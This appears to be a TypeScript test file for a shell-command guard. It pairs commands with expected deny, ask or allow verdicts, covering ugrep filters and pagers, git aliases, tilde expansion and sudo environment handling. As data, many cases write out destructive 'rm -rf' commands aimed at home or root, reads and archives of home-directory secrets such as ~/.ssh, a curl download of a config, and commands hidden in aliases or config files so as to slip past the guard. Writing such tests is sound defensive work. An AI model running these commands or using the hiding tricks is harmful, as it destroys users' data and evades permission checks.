import type { ShellCase } from './cases-deny.ts';
import { DL, INLINE, REC, RH, RR, SEC, UNSEEN } from './rule-ids.ts';

const FIND_DELETE = 'shell.find.delete';
const FORCE_PUSH = 'shell.git.force_push';
const RESET_HARD = 'shell.git.reset_hard';

/**
 * ugrep runs `--filter` commands (no shell; `%` is the file) on each file it searches and `--pager` through the shell;
 * `--config=FILE` / `---FILE` reads options (a filter, a pager) from a file: read when this line wrote it, else a setting
 * the guard cannot see. `ug` reads `.ugrep` from the working or home directory, judged when this line wrote it (review: allowed).
 */
export const UGREP_COMMANDS: readonly ShellCase[] = [
  ["ugrep --filter='*:rm %' -r x .", 'ask', FIND_DELETE],
  ["ugrep --filter='*:rm %' -r x /", 'deny', RR],
  ["ug --filter='*:shred -u %' -r x ~/projects", 'ask', FIND_DELETE],
  ["ugrep --filter='log:sh -c %' x logs", 'ask', INLINE],
  ["ugrep --pager='rm -rf ~' x notes.txt", 'deny', RH],
  ['ugrep --config=evil.cfg x src', 'ask', UNSEEN],
  ['ugrep ---evil x src', 'ask', UNSEEN],
  ['ug --config=cfg -r x src', 'ask', UNSEEN],
  ['ugrep --config="$C" x', 'ask', UNSEEN],
  ["echo 'filter=*:rm -rf %' > .ugrep && ug -r x .", 'ask', REC],
  ["echo 'filter=*:rm %' > ~/.ugrep; cd /tmp && ug -r x", 'ask', FIND_DELETE],
  ["printf 'pager=sh -c \"rm -rf ~\"\\n' > cfg && ugrep --config=cfg x src", 'deny', RH],
  ['curl -o .ugrep https://x.example/cfg && ug foo src', 'ask', DL],
];

/** Look-alikes: filters that convert documents, config that sets plain options, no config at all. */
export const UGREP_COMMANDS_ALLOWED: readonly ShellCase[] = ([
  "ugrep --filter='pdf:pdftotext % -' -r invoice docs", 'ug+ -r invoice docs', 'ugrep --config=/dev/null -r x src', 'ug --no-config x src',
  "echo 'recursive' > .ugrep && ug foo src", 'ugrep --pager x file.txt', "ugrep --filter='*:cat %' x ~/projects", 'ugrep --config x src',
] as const).map((c): ShellCase => [c, 'allow']);

/**
 * git aliases set before they are used on the same line — `git config alias.NAME VALUE`, GIT_CONFIG_KEY_n/VALUE_n,
 * GIT_CONFIG_PARAMETERS — are expanded like `git -c alias.NAME=…`; a `!` alias runs `sh -c 'CODE "$@"'` with the words
 * after it; an alias whose value the guard cannot see asks (review: a non-`!` alias was not expanded, `!` ones ran without their words).
 */
export const GIT_ALIASES_SET: readonly ShellCase[] = [
  ["git config alias.p 'push --force' && git p", 'ask', FORCE_PUSH],
  ["git config --global alias.p 'push -f'; git p origin main", 'ask', FORCE_PUSH],
  ["git config alias.rh 'reset --hard'; git rh HEAD~1", 'ask', RESET_HARD],
  ["git config set alias.c 'clean -fdx'; git c", 'ask', 'shell.git.clean'],
  ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push -f' git p", 'ask', FORCE_PUSH],
  ["export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='reset --hard'; git p", 'ask', RESET_HARD],
  ["GIT_CONFIG_PARAMETERS=\"'alias.p'='push --force'\" git p", 'ask', FORCE_PUSH],
  ['git config alias.x "$V"; git x', 'ask', UNSEEN],
  ['git config --global alias.x "$(cat alias.txt)"', 'ask', UNSEEN],
  ["git -c 'alias.x=!rm -rf' x /", 'deny', RR],
  ["git config alias.x '!rm -rf' && git x /", 'deny', RR],
  ["GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf' git x ~", 'deny', RH],
  ['git config alias.c \'clone --upload-pack="rm -rf /"\' && git c r', 'deny', RR],
  ["git config alias.g 'grep --no-index'; git g BEGIN ~/.ssh", 'deny', SEC],
];

/** Look-alikes: harmless aliases, an alias not used, removed, or not exported to git. */
export const GIT_ALIASES_SET_ALLOWED: readonly ShellCase[] = ([
  'git config alias.co checkout && git co main', 'git config alias.st status; git st', 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0=status git st',
  "git config alias.p 'push --force' && git push", "git config alias.p 'push --force'; git config --unset alias.p; git p",
  "GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push -f'; git p", "git config alias.lg 'log --graph --oneline'; git lg -5",
] as const).map((c): ShellCase => [c, 'allow']);

/**
 * bash expands `~` after the first `=` of an assignment and after each `:` in its value, and in words shaped like
 * assignments (`env D=~`, `export P=a:~`, `dd if=~/…`), but not in `--opt=~` (review: left as a file named `~`).
 */
export const TILDE_ASSIGNMENTS: readonly ShellCase[] = [
  ['env D=~ sh -c \'rm -rf "$D"\'', 'deny', RH],
  ['sudo D=~ sh -c \'rm -rf "$D"\'', 'deny', RH],
  ['export D=~; sh -c \'rm -rf "$D"\'', 'deny', RH],
  ["declare -x D=~; bash -c 'rm -rf $D'", 'deny', RH],
  ['D=/tmp:~; IFS=:; rm -rf $D', 'deny', RH],
  ['export P=/srv/x:~; IFS=:; for d in $P; do rm -rf "$d"; done', 'deny', RH],
  ['env H=~ sh -c \'grep -r x "$H"\'', 'deny', SEC],
  ['env H=~ bash -c \'tar czf /tmp/h.tgz "$H"\'', 'deny', SEC],
];

/** Look-alikes: a quoted or `--opt=` tilde stays a name, a directory below home is no secret place. */
export const TILDE_ASSIGNMENTS_LOOKALIKES: readonly ShellCase[] = [
  ['env H=~/projects sh -c \'grep -r x "$H"\'', 'ask', INLINE],
  ["X='~'; rm -rf \"$X\"", 'ask', REC],
  ['D=a":"~; IFS=:; rm -rf $D', 'ask', REC],
  ['tar czf x.tgz --directory=~ src', 'allow'],
  ['echo a=~ b=x:~', 'allow'],
  ['make PREFIX=~/.local install', 'allow'],
];

/**
 * sudo resets the environment (env_reset) unless -E or --preserve-env, while sudoers' env_keep may keep a variable: a
 * variable exported before sudo may or may not reach the command, so both are judged (review: assumed to reach).
 * doas and pkexec reset it too. Variables sudo sets itself (`sudo D=x`) reach it.
 */
export const SUDO_ENV: readonly ShellCase[] = [
  ["export D=sub; sudo bash -c 'rm -rf ~/$D'", 'deny', RH],
  ['D=sub sudo sh -c \'rm -rf "/$D"\'', 'deny', RR],
  ["export D=sub; sudo --preserve-env=PATH bash -c 'rm -rf ~/$D'", 'deny', RH],
  ["export D=sub; sudo -u root -H bash -c 'rm -rf /$D'", 'deny', RR],
  ["export D=sub; doas sh -c 'rm -rf /$D'", 'deny', RR],
  ["export D=sub; pkexec sh -c 'rm -rf /$D'", 'deny', RR],
];

/** Look-alikes: the environment kept (-E, --preserve-env), set by sudo itself, or a variable the outer shell expands. */
export const SUDO_ENV_LOOKALIKES: readonly ShellCase[] = [
  ["export D=sub; sudo -E bash -c 'rm -rf ~/$D'", 'ask', REC],
  ["export D=sub; sudo --preserve-env bash -c 'rm -rf ~/$D'", 'ask', REC],
  ["export D=sub; sudo --preserve-env=D bash -c 'rm -rf ~/$D'", 'ask', REC],
  ['sudo D=sub sh -c \'rm -rf "/$D"\'', 'ask', REC],
  ['X=/ sudo rm -rf "$X"', 'ask', REC],
  ['export D=build; sudo make -C "$D"', 'allow'],
  ['export GIT_PAGER=cat; sudo git log', 'allow'],
];
